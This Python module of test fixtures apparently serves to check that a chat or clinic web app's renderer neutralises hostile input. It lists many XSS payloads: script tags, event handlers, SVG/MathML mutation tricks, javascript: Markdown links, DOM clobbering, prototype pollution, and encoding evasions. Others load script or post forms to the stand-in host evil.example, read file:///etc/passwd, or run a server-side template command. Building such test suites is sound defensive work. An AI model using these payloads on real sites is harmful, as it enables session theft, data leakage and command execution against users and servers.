"""Texts that would run a script, fetch something or lead away wherever a text is taken for more than a text.

All were written for this project, by the ways in which browsers, templates and Markdown have been fooled.
Each of them calls `hit`, goes to evil.example, or takes a name that the page needs.
"""

from __future__ import annotations

EVIL = "evil.example"

SCRIPT_ELEMENTS = (
    "<script>hit(1)</script>",
    "<SCRIPT>hit(1)</SCRIPT>",
    "<ScRiPt >hit(1)</sCrIpT >",
    "<script/x>hit(1)</script/x>",
    "<script\n>hit(1)</script\t>",
    f"<script src=https://{EVIL}/x.js></script>",
    f"<script src=//{EVIL}/x.js async></script>",
    f"<script type=module>import 'https://{EVIL}/x.js'</script>",
    "<script src=data:text/javascript,hit(1)></script>",
    "<scr<script>ipt>hit(1)</scr</script>ipt>",
    "<<script>hit(1)//<</script>",
    "<svg><script>hit(1)</script></svg>",
    "<script>hit(1)<!-- </script>",
    "</p></li></ol><script>hit(1)</script><ol><li><p>",
)

EVENT_HANDLERS = (
    "<img src=x onerror=hit(1)>",
    "<img src=x onerror='hit(1)'>",
    '<img src="x" onerror="hit(1)">',
    "<img src=x onerror=hit`1`>",
    "<IMG SRC=x OnErRoR=hit(1)>",
    "<img/src=x/onerror=hit(1)>",
    "<img src=x\nonerror\n=\nhit(1)\n>",
    "<img src=x onerror=&#104;&#105;&#116;(1)>",
    "<img src=x onerror=&#x68;&#x69;&#x74;&lpar;1&rpar;>",
    "<img src=x onerror=\\u0068it(1)>",
    "<img src onerror=hit(1) <p>",
    "<image src=x onerror=hit(1)>",
    "<body onload=hit(1)>",
    "<input autofocus onfocus=hit(1)>",
    "<textarea autofocus onfocus=hit(1)>",
    "<select autofocus onfocus=hit(1)>",
    "<button autofocus onfocus=hit(1)>Side effects</button>",
    "<a href=x onfocus=hit(1) autofocus tabindex=1>more</a>",
    "<details open ontoggle=hit(1)>more</details>",
    "<video src=x onerror=hit(1)></video>",
    "<audio src=x onerror=hit(1)></audio>",
    "<video><source onerror=hit(1)></video>",
    "<marquee onstart=hit(1)>side effects</marquee>",
    "<object data=x onerror=hit(1)></object>",
    "<p style=animation:breathe onanimationstart=hit(1)>more</p>",
    "<p onpointerover=hit(1) onmouseenter=hit(1) onclick=hit(1)>is it safe</p>",
    "<xss onscrollend=hit(1) style=display:block;overflow:auto>",
)

DRAWINGS_AND_FORMULAS = (
    "<svg onload=hit(1)>",
    "<svg/onload=hit(1)//",
    "<svg><animate onbegin=hit(1) attributeName=x dur=1s>",
    "<svg><set onbegin=hit(1) attributeName=x>",
    "<svg><a xlink:href=javascript:hit(1)><text y=20>more</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload=hit(1)>#x></use></svg>",
    "<svg><foreignObject><img src=x onerror=hit(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=hit(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=x onerror=hit(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=hit(1)>",
    "<math href=javascript:hit(1)>more</math>",
    "<math><mi//xlink:href=javascript:hit(1)>more",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit(1)>",
    '<noscript><p title="</noscript><img src=x onerror=hit(1)>">',
    "<template><img src=x onerror=hit(1)></template>",
    "<table><td><svg><desc><td><img src=x onerror=hit(1)>",
)

MARKDOWN_LINKS = (
    "[more](javascript:hit(1))",
    "[more](JaVaScRiPt:hit(1))",
    "[more](java\tscript:hit(1))",
    "[more](java\nscript:hit(1))",
    "[more](\x01javascript:hit(1))",
    "[more]( javascript:hit(1))",
    "[more](javascript&colon;hit(1))",
    "[more](&#106;avascript:hit(1))",
    "[more](&#x6A;avascript&#58;hit(1))",
    "[more](javascript:%68it(1))",
    "[more](javascript://%0Ahit(1))",
    "[more](java\u00adscript:hit(1))",
    "[more](\u200bjavascript:hit(1))",
    "[more](\ufeffjavascript:hit(1))",
    "[more](ｊavascript:hit(1))",
    "[more](vbscript:hit(1))",
    "[more](data:text/html,<script>hit(1)</script>)",
    "[more](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KDEpPC9zY3JpcHQ+)",
    "[more](blob:https://clinic.example/1)",
    f"[more](view-source:https://{EVIL}/)",
    "[more](file:///etc/passwd)",
    f"![more](https://{EVIL}/x.png)",
    "![more](javascript:hit(1))",
    f"[![more](x)](//{EVIL}/)",
    "<javascript:hit(1)>",
    "[more][1]\n\n[1]: javascript:hit(1)",
    '[more](https://clinic.example/"onmouseover=hit(1)//)',
    "[more](https://clinic.example/ \"x' onmouseover='hit(1)\")",
    "[more](https://clinic.example/'><img/src=x/onerror=hit(1)>)",
    "[<img src=x onerror=hit(1)>](https://clinic.example/)",
    "[**[more](javascript:hit(1))**](https://clinic.example/)",
    "**_[more](javascript:hit(1))_**",
    "- [more](javascript:hit(1))\n  - [more](javascript:hit(1))",
    '[more](tel:911"onclick=hit(1))',
    "`<img src=x onerror=hit(1)>`",
    "    <script>hit(1)</script>",
    "> <img src=x onerror=hit(1)>",
    "| <img src=x onerror=hit(1)> |\n|---|\n| more |",
)

TEMPLATES = (
    "${hit(1)}",
    "`${hit(1)}`",
    "{{hit(1)}}",
    "{{constructor.constructor('hit(1)')()}}",
    "{{7*7}}{% print(7*7) %}{# #}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "#{hit(1)}",
    "<%= hit(1) %>",
    "[[${hit(1)}]]",
    "lit$1234567$",
    "<?lit$1234567$?><!--?lit$1234567$--><img src=x onerror=hit(1)>",
    "@click=hit(1) .innerHTML=<img/src/onerror=hit(1)> ?hidden",
)

ATTRIBUTES_LEFT = (
    '"><img src=x onerror=hit(1)>',
    "'><img src=x onerror=hit(1)>",
    '" onmouseover="hit(1)" x="',
    "' autofocus onfocus='hit(1)",
    "x onpointerenter=hit(1) y",
    "&quot;&gt;&lt;img src=x onerror=hit(1)&gt;",
    '"/><svg/onload=hit(1)>',
    "--><img src=x onerror=hit(1)>",
    "]]><img src=x onerror=hit(1)>",
    "</title><img src=x onerror=hit(1)>",
    "</textarea><img src=x onerror=hit(1)>",
    "</style><img src=x onerror=hit(1)>",
    "</back-pain-chat><img src=x onerror=hit(1)>",
)

STYLES = (
    f"<style>*{{background:url(//{EVIL}/x.png)}}</style>",
    f"<style>@import '//{EVIL}/x.css';</style>",
    f"<p style=\"background:url('//{EVIL}/x.png')\">more</p>",
    f"<link rel=stylesheet href=//{EVIL}/x.css>",
    f"<p style=background-image:url(//{EVIL}/x.png)>more</p>",
    "<p style=position:fixed;inset:0;z-index:9999>more</p>",
    "x:expression(hit(1))",
    f"red;background:url(//{EVIL}/x.png)",
)

COMMENTS = (
    '<!--<img src="--><img src=x onerror=hit(1)>">',
    "<!--><img src=x onerror=hit(1)>-->",
    "<!--!><img src=x onerror=hit(1)>",
    "<![CDATA[<img src=x onerror=hit(1)>]]>",
    "<?xml version=1.0?><img src=x onerror=hit(1)>",
    "<!doctype html><img src=x onerror=hit(1)>",
)

PAGES_WITHIN = (
    '<iframe srcdoc="<script>parent.hit(1)</script>"></iframe>',
    "<iframe src=javascript:parent.hit(1)></iframe>",
    f"<iframe src=//{EVIL}/></iframe>",
    "<iframe srcdoc=&lt;img&#32;src&#61;x&#32;onerror&#61;parent.hit(1)&gt;></iframe>",
    "<object data=data:text/html,<script>parent.hit(1)</script>></object>",
    f"<embed src=//{EVIL}/x.svg>",
    f"<base href=//{EVIL}/>",
    f'<meta http-equiv=refresh content="0;url=https://{EVIL}/">',
    '<meta http-equiv=refresh content="0;url=javascript:hit(1)">',
    f"<form action=//{EVIL}/><button>Side effects</button></form>",
    "<form action=javascript:hit(1)><input type=submit value=more></form>",
    f"<link rel=prefetch href=//{EVIL}/>",
    f"<portal src=//{EVIL}/></portal>",
    "<dialog open><form method=dialog><button>Yes</button></form></dialog>",
)

NAMES_TAKEN = (
    "<img name=getElementById>",
    "<form id=log><input name=attributes></form>",
    "<a id=confirm></a><a id=confirm name=click href=javascript:hit(1)></a>",
    "<img id=question name=question>",
    "<iframe name=customElements></iframe>",
    "<a id=defaultServer href=//evil.example/>",
    "__proto__",
    "constructor",
    '{"__proto__": {"text": "<img src=x onerror=hit(1)>"}}',
    '{"constructor": {"prototype": {"buttons": [{"title": "x"}]}}}',
    "toString",
    "hasOwnProperty",
)

HIDDEN_CHARACTERS = (
    "\u202e<img src=x onerror=hit(1)>\u202c",
    "\u2066<script>hit(1)</script>\u2069",
    "<\u200bscript>hit(1)</\u200bscript>",
    "<scr\u0000ipt>hit(1)</scr\u0000ipt>",
    "＜script＞hit(1)＜/script＞",
    "﹤img src=x onerror=hit(1)﹥",
    "\u2028<img src=x onerror=hit(1)>\u2029",
    "\ufeff<img src=x onerror=hit(1)>",
    "ı<ſcript>hit(1)</ſcript>",
    "+ADw-script+AD4-hit(1)+ADw-/script+AD4-",
    "\\x3cscript\\x3ehit(1)\\x3c/script\\x3e",
    "%3Cscript%3Ehit(1)%3C/script%3E",
    "&lt;script&gt;hit(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=hit(1)&amp;gt;",
    "\U0001f600<img src=x onerror=hit(1)>",
)

LONG = (
    "<b>" * 400 + "<img src=x onerror=hit(1)>" + "</b>" * 100,
    "a" * 1900 + "<img src=x onerror=hit(1)>",
    "*" * 900 + "<img src=x onerror=hit(1)>" + "*" * 900,
    "[" * 900 + "more](javascript:hit(1))" + "]" * 900,
    "<img src=x onerror=hit(1)>" * 70,
)

TEXTS = (
    *SCRIPT_ELEMENTS,
    *EVENT_HANDLERS,
    *DRAWINGS_AND_FORMULAS,
    *MARKDOWN_LINKS,
    *TEMPLATES,
    *ATTRIBUTES_LEFT,
    *STYLES,
    *COMMENTS,
    *PAGES_WITHIN,
    *NAMES_TAKEN,
    *HIDDEN_CHARACTERS,
    *LONG,
)
